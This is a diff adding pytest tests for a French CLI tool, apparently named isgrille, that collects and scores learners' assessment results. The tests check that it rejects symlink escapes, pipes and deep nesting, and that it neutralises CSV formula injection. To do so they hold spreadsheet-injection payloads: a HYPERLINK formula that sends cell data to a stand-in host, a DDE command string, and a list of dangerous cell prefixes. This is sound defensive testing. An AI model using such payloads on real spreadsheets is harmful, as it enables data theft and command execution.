@@ -5,12 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
 
+from isgrille.content.limits import shorten
 from isgrille.content.loading import YAML_KINDS, data_dir, default_path
 from isgrille.delivery.schema_export import SCHEMA_KINDS
 
@@ -142,3 +144,307 @@ def test_cli_validates_results(tmp_path, grid):
     bad.write_text(json.dumps(base(version=2)), encoding="utf-8")
     assert main(["validate", str(good)]) == 0
     assert main(["validate", str(good), str(bad)]) == 1
+
+
+# --- in-process runs: exact lines and exit codes ------------------------------------
+
+RESULTS = Path("resultats") / "mes_resultats.json"
+HEADER = "file,project,learner,quiz_correct,quiz_answered,criteria_rated,assessors"
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cli(capsys, *args: str) -> tuple[int, str, list[str]]:
+    """Run main() in-process: the exit code, the output and the error output's lines."""
+    from isgrille.delivery.cli import main
+
+    code = main(list(args))
+    out, err = capsys.readouterr()
+    return code, out, err.splitlines()
+
+
+def learner(grid, home: Path, project: str, learner: str = "", assessor: str | None = None) -> Path:
+    from isgrille.results.learner import LearnerResults
+    from isgrille.results.store import save_results
+
+    results = LearnerResults(project=project, learner=learner)
+    results.rate("caractere_collectif", 1)
+    if assessor:
+        results.rate("caractere_collectif", 2, assessor=assessor)
+    return save_results(results, home / RESULTS, grid)
+
+
+@pytest.fixture
+def homes(grid, tmp_path) -> Path:
+    root = tmp_path / "homes"
+    learner(grid, root / "alice", "Recyclerie", "Alice")
+    learner(grid, root / "bob", "Cantine", "Bob")
+    return root
+
+
+def rows_of(out: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(out)))
+
+
+@pytest.mark.timeout(60)  # opening the pipe would wait for ever
+def test_collect_reports_every_bad_match_and_lists_the_good_ones(capsys, grid, homes, tmp_path):
+    for name in ("carol", "dan", "eve", "fay", "gus", "hal"):
+        (homes / name / RESULTS).parent.mkdir(parents=True)
+    (homes / "carol" / RESULTS).mkdir()
+    os.mkfifo(homes / "dan" / RESULTS)
+    (homes / "eve" / RESULTS).symlink_to(homes / "eve" / "parti.json")
+    outside = learner(grid, tmp_path / "ailleurs", "Hors classe")
+    (homes / "fay" / RESULTS).symlink_to(outside)
+    (homes / "gus" / RESULTS).symlink_to(homes / "alice" / RESULTS)
+    (homes / "hal" / RESULTS).write_text("[" * 990 + "]" * 990, encoding="utf-8")
+    (homes / "ivy").mkdir()
+    code, out, err = cli(capsys, "collect", str(homes))
+    assert code == 1
+    assert rows_of(out) == [HEADER.split(","),
+                            [str(homes / "alice" / RESULTS), "Recyclerie", "Alice", "0", "0", "1", "autoévaluation"],
+                            [str(homes / "bob" / RESULTS), "Cantine", "Bob", "0", "0", "1", "autoévaluation"]]
+    assert err[:5] == [
+        f"{homes / 'carol' / RESULTS}: c'est un dossier, pas un fichier de résultats : non lu",
+        f"{homes / 'dan' / RESULTS}: ce n'est pas un fichier ordinaire "
+        "(tube nommé, socket ou périphérique) : non lu",
+        f"{homes / 'eve' / RESULTS}: lien symbolique cassé (la cible n'existe pas) : non lu",
+        f"{homes / 'fay' / RESULTS}: lien qui mène hors de {homes} (vers {shorten(str(outside))}) : non lu",
+        f"{homes / 'gus' / RESULTS}: lien vers le fichier d'un autre apprenant "
+        "(alice/resultats/mes_resultats.json) : non lu",
+    ]
+    assert len(err) == 7 and err[5].startswith(f"{homes / 'hal' / RESULTS}: ")  # whatever the reader says
+    assert err[6] == f"{homes}: 1 dossier sans fichier de résultats (*/resultats/mes_resultats.json) : ivy"
+
+
+def test_collect_of_a_clean_class_exits_0(capsys, homes):
+    code, out, err = cli(capsys, "collect", str(homes))
+    assert (code, err) == (0, []) and len(rows_of(out)) == 3
+
+
+def test_collect_counts_homes_without_results_and_exits_1(capsys, homes):
+    for name in ("carol", "dan", ".cache"):
+        (homes / name).mkdir()
+    code, out, err = cli(capsys, "collect", str(homes))
+    assert code == 1 and len(rows_of(out)) == 3
+    assert err == [f"{homes}: 2 dossiers sans fichier de résultats (*/resultats/mes_resultats.json) : carol, dan"]
+
+
+def test_collect_an_unexpected_exception_is_one_line_and_the_rest_is_collected(capsys, homes, monkeypatch):
+    from isgrille.results import collect
+
+    real = collect.read_results
+
+    def reader(path, grid):
+        if "bob" in str(path):
+            raise KeyError("x")
+        return real(path, grid)
+
+    monkeypatch.setattr(collect, "read_results", reader)
+    code, out, err = cli(capsys, "collect", str(homes))
+    assert code == 1 and [row[1] for row in rows_of(out)] == ["project", "Recyclerie"]
+    assert err == [f"{homes / 'bob' / RESULTS}: fichier illisible (KeyError) : 'x'"]
+
+
+def test_collect_a_folder_that_does_not_exist_exits_2(capsys, tmp_path):
+    code, out, err = cli(capsys, "collect", str(tmp_path / "nulle-part"))
+    assert (code, out) == (2, "")
+    assert err == [f"{tmp_path / 'nulle-part'}: dossier introuvable (attendu : le dossier qui contient "
+                   "les dossiers personnels des apprenants, par exemple /home)"]
+
+
+def test_collect_a_file_given_as_the_folder_exits_2(capsys, homes):
+    code, out, err = cli(capsys, "collect", str(homes / "alice" / RESULTS))
+    assert (code, out) == (2, "")
+    assert err == [f"{homes / 'alice' / RESULTS}: ce n'est pas un dossier (attendu : le dossier qui contient "
+                   "les dossiers personnels des apprenants, par exemple /home)"]
+
+
+def test_collect_a_pattern_out_of_the_folder_exits_2(capsys, homes):
+    code, out, err = cli(capsys, "collect", str(homes), "--pattern", "../*.json")
+    assert (code, out) == (2, "") and err[0].startswith(f"{homes}: motif '../*.json' invalide (attendu : ")
+
+
+HOSTILE = '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")'
+
+
+def test_collect_neutralises_formulas_in_learners_text(capsys, grid, tmp_path):
+    root = tmp_path / "homes"
+    learner(grid, root / "alice", HOSTILE, "@SOMME(1+1)*cmd|' /C calc'!A0", assessor="-2+3")
+    learner(grid, root / "=bob", "+33 6 12 34 56 78", "-Zoé")
+    code, out, err = cli(capsys, "collect", str(root))
+    assert (code, err) == (0, [])
+    rows = rows_of(out)
+    assert rows[1:] == [
+        [str(root / "=bob" / RESULTS), "'+33 6 12 34 56 78", "'-Zoé", "0", "0", "1", "autoévaluation"],
+        [str(root / "alice" / RESULTS), "'" + HOSTILE, "'@SOMME(1+1)*cmd|' /C calc'!A0", "0", "0", "1",
+         "autoévaluation ; -2+3"],
+    ]
+    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
+
+
+def test_collect_neutralises_a_relative_path_that_starts_like_a_formula(capsys, grid, tmp_path, monkeypatch):
+    learner(grid, tmp_path / "=cmd", "P")
+    monkeypatch.chdir(tmp_path)
+    code, out, _ = cli(capsys, "collect", ".")
+    assert code == 0 and rows_of(out)[1][0] == "'" + str(Path("=cmd") / RESULTS)
+
+
+def test_score_neutralises_formulas_and_keeps_numbers(capsys, grid, tmp_path):
+    cohort = tmp_path / "cohorte.csv"
+    others = [""] * (len(grid.criteria) - 1)
+    with cohort.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["project", "assessor", *(c.id for c in grid.criteria)])
+        writer.writerow([HOSTILE, "@formateur", "Fort", *others])
+        writer.writerow(["-Moins", "+plus", "", *others])
+    code, out, err = cli(capsys, "score", str(cohort), "--grid", str(default_path("grid")))
+    assert (code, err) == (0, [])
+    rows = rows_of(out)
+    assert rows[0] == ["project", "assessor", "scope", "Inexistant", "Faible", "Intermédiaire", "Fort",
+                       "not_rated", "median", "percent"]
+    overall = [row for row in rows if row[2] == "overall"]
+    assert overall == [["'" + HOSTILE, "'@formateur", "overall", "0", "0", "0", "1", "11", "Fort", "100.0"],
+                       ["'-Moins", "'+plus", "overall", "0", "0", "0", "0", "12", "", ""]]
+    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
+
+
+def test_score_writes_percent_with_one_decimal(capsys):
+    code, out, _ = cli(capsys, "score")
+    percents = [row[-1] for row in rows_of(out)[1:] if row[-1]]
+    assert code == 0 and percents and all(p == f"{float(p):.1f}" for p in percents)
+
+
+def test_an_unexpected_error_is_one_french_line_not_a_traceback(capsys, monkeypatch):
+    from isgrille.analysis import scoring
+
+    def score(grid, assessment):
+        raise RuntimeError("boum\nici")
+
+    monkeypatch.setattr(scoring, "score_assessment", score)
+    code, out, err = cli(capsys, "score")
+    assert code == 1
+    assert err == ["python -m isgrille score : erreur inattendue : RuntimeError (boum ici) ; "
+                   "signalez-la avec la commande et le fichier"]
+
+
+def test_an_interruption_is_one_line(capsys, monkeypatch):
+    from isgrille.delivery import schema_export
+
+    def write_schemas(out):
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(schema_export, "write_schemas", write_schemas)
+    assert cli(capsys, "schema")[::2] == (130, ["python -m isgrille schema : interrompu"])
+
+
+def test_validate_reports_any_exception_per_file_and_goes_on(capsys, monkeypatch, tmp_path):
+    from isgrille.delivery import validate
+
+    real = validate.validate_file
+
+    def validate_file(path, grid=None):
+        if path.name == "quiz.yaml":
+            raise MemoryError
+        return real(path, grid)
+
+    monkeypatch.setattr(validate, "validate_file", validate_file)
+    code, out, err = cli(capsys, "validate", str(default_path("quiz")), str(default_path("grid")))
+    assert code == 1
+    assert out.splitlines() == [f"{default_path('grid')}: valide (grille)"]
+    assert err == [f"{default_path('quiz')}: fichier illisible (MemoryError)", "1 fichier invalide sur 2"]
+
+
+def test_validate_a_file_nested_990_levels_deep_is_reported(capsys, tmp_path):
+    deep = tmp_path / "profond.json"
+    deep.write_text("[" * 990 + "]" * 990, encoding="utf-8")
+    code, out, err = cli(capsys, "validate", str(deep), str(default_path("grid")))
+    assert code == 1 and out.splitlines() == [f"{default_path('grid')}: valide (grille)"]
+    assert err[0].startswith(f"{deep}: ") and err[-1] == "1 fichier invalide sur 2"
+
+
+class _BrokenPipe(io.StringIO):
+    def write(self, text: str) -> int:
+        raise BrokenPipeError(32, "Broken pipe")
+
+
+@pytest.mark.parametrize("command", ["score", "collect"])
+def test_a_broken_pipe_stops_quietly(capsys, monkeypatch, homes, command):
+    from isgrille.delivery.cli import main
+
+    monkeypatch.setattr(sys, "stdout", _BrokenPipe())
+    code = main([command, str(homes)] if command == "collect" else [command])
+    assert code == 0 and capsys.readouterr().err == ""
+
+
+# --- argparse, in French ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("args", [["--help"], ["collect", "--help"], ["score", "--help"], ["present", "--help"]])
+def test_help_is_all_french(capsys, args):
+    code, out, _ = cli(capsys, *args)
+    assert code == 0 and out.startswith("utilisation : python -m isgrille")
+    for english in ("usage:", "positional arguments", "optional arguments", "show this help", "options:"):
+        assert english not in out
+    assert "options :" in out
+
+
+@pytest.mark.parametrize(("args", "last"), [
+    (["collect"], "python -m isgrille collect : erreur : arguments obligatoires manquants : DOSSIER"),
+    (["collecte"], "python -m isgrille : erreur : argument COMMANDE : choix invalide : 'collecte' "
+                   "(choix possibles : 'validate', 'score', 'schema', 'collect', 'present')"),
+    (["present", "--port", "x"], "python -m isgrille present : erreur : argument --port : "
+                                 "nombre entier attendu, pas 'x'"),
+    (["score", "--grid"], "python -m isgrille score : erreur : argument --grid : une valeur attendue"),
+    (["schema", "--zz"], "python -m isgrille : erreur : arguments inconnus : --zz"),
+    (["validate"], "python -m isgrille validate : erreur : arguments obligatoires manquants : FICHIER"),
+])
+def test_usage_errors_are_french_and_exit_2(capsys, args, last):
+    code, out, err = cli(capsys, *args)
+    assert (code, out) == (2, "")
+    assert err[0].startswith("utilisation : python -m isgrille") and err[-1] == last
+
+
+# --- once for real: python -m isgrille collect, a hostile class -------------------------
+
+
+def test_collect_for_real_on_a_hostile_class(grid, homes):
+    learner(grid, homes / "carol", HOSTILE)
+    (homes / "dan" / RESULTS).parent.mkdir(parents=True)
+    (homes / "dan" / RESULTS).write_text("[" * 990 + "]" * 990, encoding="utf-8")
+    (homes / "eve").mkdir()
+    result = run("collect", str(homes))
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert [row[1] for row in rows_of(result.stdout)] == ["project", "Recyclerie", "Cantine", "'" + HOSTILE]
+    lines = result.stderr.splitlines()
+    assert len(lines) == 2 and lines[0].startswith(f"{homes / 'dan' / RESULTS}: ")
+    assert lines[1] == f"{homes}: 1 dossier sans fichier de résultats (*/resultats/mes_resultats.json) : eve"
+
+
+def test_collect_for_real_into_a_closed_pipe_is_quiet(homes):
+    read, write = os.pipe()
+    os.close(read)  # nobody will ever read: the first write breaks the pipe
+    try:
+        result = subprocess.run([sys.executable, "-m", "isgrille", "collect", str(homes)], cwd=ROOT,
+                                stdout=write, stderr=subprocess.PIPE, text=True, timeout=120)
+    finally:
+        os.close(write)
+    assert (result.returncode, result.stderr) == (0, "")
+
+
+def test_a_missing_folder_for_real_exits_2_without_a_header(tmp_path):
+    result = run("collect", str(tmp_path / "nulle-part"))
+    assert (result.returncode, result.stdout) == (2, "")
+    assert result.stderr.startswith(f"{tmp_path / 'nulle-part'}: dossier introuvable")
+
+
+def test_validate_names_each_kind_in_french(capsys):
+    files = [default_path(kind) for kind in ("grid", "quiz", "concepts", "workshop")]
+    files.append(data_dir() / "examples" / "cohort_fictional.csv")
+    code, out, err = cli(capsys, "validate", *map(str, files))
+    assert (code, err) == (0, [])
+    assert out.splitlines() == [f"{path}: valide ({kind})" for path, kind in zip(
+        files, ["grille", "quiz", "concepts", "atelier", "cohorte"])]
+
+
+def test_validate_with_a_grid_that_cannot_be_read(capsys, tmp_path):
+    code, out, err = cli(capsys, "validate", "--grid", str(tmp_path / "absente.yaml"), str(default_path("quiz")))
+    assert (code, out) == (1, "") and err == [f"{tmp_path / 'absente.yaml'}: fichier introuvable"]
